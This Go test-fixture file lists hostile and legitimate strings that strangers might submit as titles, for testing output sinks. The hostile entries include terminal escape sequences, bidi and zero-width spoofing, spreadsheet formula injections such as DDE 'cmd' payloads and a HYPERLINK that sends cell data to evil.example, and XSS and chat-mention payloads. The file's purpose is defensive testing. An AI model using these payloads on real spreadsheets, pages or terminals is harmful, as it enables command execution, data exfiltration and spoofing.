// Package hostile is what strangers may write where a title is expected, for the tests of every sink.
package hostile

import "strings"

// Text is one text and its name. A legitimate one must arrive as it is.
type Text struct {
	Name       string
	Text       string
	Legitimate bool
}

// Texts are the corpus.
func Texts() []Text {
	return []Text{
		{Name: "ANSI colour", Text: "\x1b[31mred\x1b[0m"},
		{Name: "ANSI clear and title", Text: "a\x1b[2J\x1b]0;owned\x07b"},
		{Name: "C1 control sequence", Text: "a\u009b31mb"},
		{Name: "a bell and a backspace", Text: "a\a\b\b\bb"},
		{Name: "carriage return", Text: "profit\r$999.00"},
		{Name: "newlines", Text: "one\nProfit: $500\r\n\u2028two\u2029three\u0085four\vfive\ffive"},
		{Name: "tabs before a formula", Text: "\t\t=1+1"},
		{Name: "NUL", Text: "a\x00b"},
		{Name: "invalid UTF-8", Text: "a\xff\xc3(\xed\xa0\x80b"},
		{Name: "bidi override", Text: "invoice\u202egpj.exe"},
		{Name: "bidi isolates", Text: "\u2066a\u2067b\u2068c\u2069"},
		{Name: "bidi marks", Text: "a\u200eb\u200fc\u061cd"},
		{Name: "zero width", Text: "pay\u200bpal\u2060\ufeff\u00ad"},
		{Name: "joiners in Latin", Text: "pay\u200dpal\u200c.com"},
		{Name: "joiners alone", Text: "\u200d\u200d\u200c"},
		{Name: "tags", Text: "a\U000e0001\U000e0068\U000e0069b"},
		{Name: "variation selectors that hide", Text: "a\ufe0f\ufe0e\U000e0100\U000e0101b"},
		{Name: "fillers", Text: "a\u3164\u115f\uffa0b"},
		{Name: "noncharacters", Text: "a\uffff\ufdd0b"},
		{Name: "formula", Text: `=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{Name: "formula with DDE", Text: `=cmd|' /C calc'!A0`},
		{Name: "plus", Text: "+1+cmd|' /C calc'!A0"},
		{Name: "minus", Text: "-2+3+cmd|' /C calc'!A0"},
		{Name: "minus sign", Text: "−2+3"},
		{Name: "at", Text: "@SUM(1+1)"},
		{Name: "wide equals", Text: "＝1+1"},
		{Name: "formula behind spaces", Text: "   =1+1"},
		{Name: "formula behind a semicolon", Text: `a; =HYPERLINK("https://evil.example")`},
		{Name: "quotes and commas", Text: `a","=1+1","b`},
		{Name: "script", Text: `<script>alert(1)</script>`},
		{Name: "attribute", Text: `" onmouseover="alert(1)' x='`},
		{Name: "image", Text: `<img src=x onerror=alert(1)>&lt;b&gt;&#x1b;`},
		{Name: "Slack channel", Text: "<!channel> <!here> <@U123>"},
		{Name: "Slack link", Text: "<https://evil.example|amazon.com>"},
		{Name: "Discord everyone", Text: "@everyone @here <@123> <@&456> <#789>"},
		{Name: "Markdown link", Text: "[Harry Potter](https://evil.example) ![](https://evil.example/i.png)"},
		{Name: "Markdown format", Text: "*b* _i_ ~s~ ||spoiler|| > quote # head"},
		{Name: "code span", Text: "`` `a` ``` <!channel> [x](https://evil.example)"},
		{Name: "bare links", Text: "https://evil.example evil.example www.evil.example mailto:a@evil.example javascript:alert(1)"},
		{Name: "10 kB", Text: strings.Repeat("0123456789", 1024)},
		{Name: "10 kB of newlines and a title", Text: strings.Repeat("\n", 10<<10) + "title"},
		{Name: "nothing that shows", Text: "\u200b\u202e\x00\x1b"},
		{Name: "empty", Text: ""},
		{Name: "a title", Text: "Harry Potter and the Philosopher's Stone (Book 1) – Ünïcode & more", Legitimate: true},
		{Name: "C++ in the middle", Text: "Programming: C++ = fun; 50% off - really", Legitimate: true},
		{Name: "German", Text: "Straße der Äpfel: „Über“ Größe", Legitimate: true},
		{Name: "Japanese", Text: "ハリー・ポッターと賢者の石　新装版【限定】", Legitimate: true},
		{Name: "Japanese variant", Text: "葛\U000e0100飾区", Legitimate: true},
		{Name: "Chinese", Text: "哈利·波特与魔法石（精装）", Legitimate: true},
		{Name: "Arabic", Text: "هاري بوتر وحجر الفلاسفة ٢", Legitimate: true},
		{Name: "Hebrew", Text: "הָארִי פּוֹטֵר", Legitimate: true},
		{Name: "Persian with a non-joiner", Text: "می\u200cخواهم کتاب\u200cها", Legitimate: true},
		{Name: "Hindi with a joiner", Text: "क्\u200dष हैरी पॉटर", Legitimate: true},
		{Name: "Thai", Text: "แฮร์รี่ พอตเตอร์", Legitimate: true},
		{Name: "Korean", Text: "해리 포터와 마법사의 돌", Legitimate: true},
		{Name: "Cyrillic", Text: "Гарри Поттер и философский камень", Legitimate: true},
		{Name: "emoji", Text: "📚 Book ❤️ 1️⃣ 🇩🇪", Legitimate: true},
		{Name: "emoji family", Text: "👩‍👩‍👧‍👦 ❤️‍🔥 🏳️‍🌈 👍🏽 👩🏽‍🚀 🧔‍♂️", Legitimate: true},
		{Name: "number", Text: "-12.50", Legitimate: true},
		{Name: "year", Text: "1984", Legitimate: true},
	}
}
